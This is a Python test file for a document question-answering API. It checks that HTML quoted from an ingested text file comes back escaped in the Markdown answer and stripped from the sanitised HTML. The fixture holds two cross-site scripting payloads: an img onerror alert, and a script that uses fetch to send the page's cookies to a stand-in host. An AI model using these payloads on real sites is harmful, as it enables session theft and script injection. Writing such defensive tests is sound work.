"""The HTTP API's ``answer`` is Markdown without raw HTML: markup quoted from a document arrives escaped, next to the
sanitised ``html`` (issue 18 item 7)."""

from __future__ import annotations

from knowledge.services import domain_get_or_create, ingest_path


def test_raw_html_from_a_quoted_document_is_escaped_in_the_api_answer(db, api, embedder, tmp_path):
    (tmp_path / "badges.txt").write_text(
        "Badge photos are taken at the security desk <img src=x onerror=alert(document.domain)> on weekdays "
        "<script>fetch('https://x.example/'+document.cookie)</script> between 9 and 11 a.m.\n", encoding="utf-8")
    ingest_path(path=tmp_path, domain=domain_get_or_create(slug="badges", name="Badges"), embedder=embedder)
    r = api.post("/api/v1/ask", {"question": "Where are badge photos taken?", "domain": "badges"})
    assert r.status_code == 200, r.content
    body = r.json()
    assert not body["abstained"] and "security desk" in body["answer"]
    assert "<script" not in body["answer"] and "<img" not in body["answer"]
    assert "&lt;script&gt;" in body["answer"] and "onerror=alert(document.domain)&gt;" in body["answer"]
    assert "<script" not in body["html"] and "<img" not in body["html"]
    assert "&lt;script&gt;" in body["html"]  # shown as text
